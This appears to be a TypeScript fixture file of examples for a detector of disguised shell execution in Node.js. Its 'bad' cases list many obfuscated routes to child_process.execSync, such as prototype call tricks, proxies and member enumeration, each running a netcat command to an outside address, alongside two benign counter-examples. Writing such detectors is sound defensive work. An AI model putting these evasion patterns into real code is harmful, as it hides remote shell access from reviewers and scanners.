import type { DetectorExamples } from '../detector.ts';

/** Ways to a module and its members that are written instead of their names. */
export const moduleExamples: DetectorExamples = {
  bad: [
    {
      code: "const cp = require('child_process'); for (const { execSync: run } of [cp]) run('netcat 192.0.2.7 99');",
      why: 'taken out of what a list is gone through for',
      attributes: { command: 'netcat', shell: 'true', via: 'exec' },
    },
    {
      code: "const cp = require('child_process'); Function.prototype.call.call(cp.execSync, null, 'netcat 192.0.2.7 99');",
      why: 'a method of functions that is called by itself',
      attributes: { command: 'netcat', shell: 'true', via: 'exec' },
    },
    {
      code: "const cp = require('child_process'); Function.prototype.apply.call(cp.execSync, null, ['netcat 192.0.2.7 99']);",
      why: 'the same with a list',
      attributes: { command: 'netcat', shell: 'true', via: 'exec' },
    },
    {
      code: "const cp = require('child_process'); cp.exec.call.apply(cp.execSync, [, 'netcat 192.0.2.7 99']);",
      why: 'the other way round, and nothing for itself',
      attributes: { command: 'netcat', shell: 'true', via: 'exec' },
    },
    {
      code: "Function.prototype.call.call(require, null, 'child_process').execSync('netcat 192.0.2.7 99');",
      why: 'a loader that is called so',
      attributes: { command: 'netcat', shell: 'true', via: 'exec' },
    },
    {
      code: "const cp = require('child_process'); Object.values(cp)[5]('netcat 192.0.2.7 99');",
      why: 'one of all members',
      attributes: { command: 'netcat', shell: 'true', via: 'exec' },
    },
    {
      code: "const cp = require('child_process'); Object.values(cp).find((one) => one.name === 'execSync')('netcat 192.0.2.7 99');",
      why: 'one that is looked for',
      attributes: { command: 'netcat', shell: 'true', via: 'exec' },
    },
    {
      code: "const cp = require('child_process'); for (const [, run] of Object.entries(cp)) run('netcat 192.0.2.7 99');",
      why: 'all of them, one after the other',
      attributes: { command: 'netcat', shell: 'true', via: 'exec' },
    },
    {
      code: "const cp = require('child_process'); ['execSync'].reduce((of, key) => of[key], cp)('netcat 192.0.2.7 99');",
      why: 'a way that is gone step by step',
      attributes: { command: 'netcat', shell: 'true', via: 'exec' },
    },
    {
      code: "const cp = require('child_process'); Object.keys(cp).reduce((found, key) => cp[key], null)('netcat 192.0.2.7 99');",
      why: 'the last of all members',
      attributes: { command: 'netcat', shell: 'true', via: 'exec' },
    },
    {
      code: "let cp = require('fs'); cp = require('child_process'); cp.execSync('netcat 192.0.2.7 99');",
      why: 'a name that was another module before',
      attributes: { command: 'netcat', shell: 'true', via: 'exec' },
    },
    {
      code: "let cp; cp ??= require('child_process'); cp.execSync('netcat 192.0.2.7 99');",
      why: 'a module that is loaded late',
      attributes: { command: 'netcat', shell: 'true', via: 'exec' },
    },
    {
      code: "function start({ run = require('child_process').execSync }) { run('netcat 192.0.2.7 99'); }",
      why: 'a member where none is given',
      attributes: { command: 'netcat', shell: 'true', via: 'exec' },
    },
    {
      code: "function start(cp = require('child_process')) { cp.execSync('netcat 192.0.2.7 99'); } start();",
      why: 'a module where a caller gives none',
      attributes: { command: 'netcat', shell: 'true', via: 'exec' },
    },
    {
      code: "const [cp] = await Promise.all([import('child_process')]); cp.execSync('netcat 192.0.2.7 99');",
      why: 'a module among others',
      attributes: { command: 'netcat', shell: 'true', via: 'exec' },
    },
    {
      code: "const all = { ...require('fs'), ...require('child_process') }; all.execSync('netcat 192.0.2.7 99');",
      why: 'a module behind another one',
      attributes: { command: 'netcat', shell: 'true', via: 'exec' },
    },
    {
      code: "const all = Object.assign({ a: 1 }, require('fs'), require('child_process')); all.execSync('netcat 192.0.2.7 99');",
      why: 'the same in an object that has more',
      attributes: { command: 'netcat', shell: 'true', via: 'exec' },
    },
    {
      code: "Object.create(require('child_process')).execSync('netcat 192.0.2.7 99');",
      why: 'a module that is a prototype',
      attributes: { command: 'netcat', shell: 'true', via: 'exec' },
    },
    {
      code: "({ __proto__: require('child_process') }).execSync('netcat 192.0.2.7 99');",
      why: 'the same by its name',
      attributes: { command: 'netcat', shell: 'true', via: 'exec' },
    },
    {
      code: "new Proxy(require('child_process').execSync, {})('netcat 192.0.2.7 99');",
      why: 'a function behind a proxy',
      attributes: { command: 'netcat', shell: 'true', via: 'exec' },
    },
    {
      code: "new Map(Object.entries(require('child_process'))).get('execSync')('netcat 192.0.2.7 99');",
      why: 'a map of all members',
      attributes: { command: 'netcat', shell: 'true', via: 'exec' },
    },
    {
      code: "Object.getOwnPropertyDescriptor(require('child_process'), 'execSync').value('netcat 192.0.2.7 99');",
      why: 'what describes a member',
      attributes: { command: 'netcat', shell: 'true', via: 'exec' },
    },
    {
      code: "require.main.constructor._load('child_process').execSync('netcat 192.0.2.7 99');",
      why: 'the loader below the main module',
      attributes: { command: 'netcat', shell: 'true', via: 'exec' },
    },
  ],
  good: [
    {
      code: "function start(make = require('fs').mkdirSync, name = 'curl', run = (line) => line) { make(name); run('curl'); }",
      why: 'other defaults',
    },
    {
      code: "const all = { ...require('child_process'), ...require('fs') }; let at = require('fs'); at = require('path'); at.join('a');",
      why: 'modules of which nothing is called',
    },
  ],
};
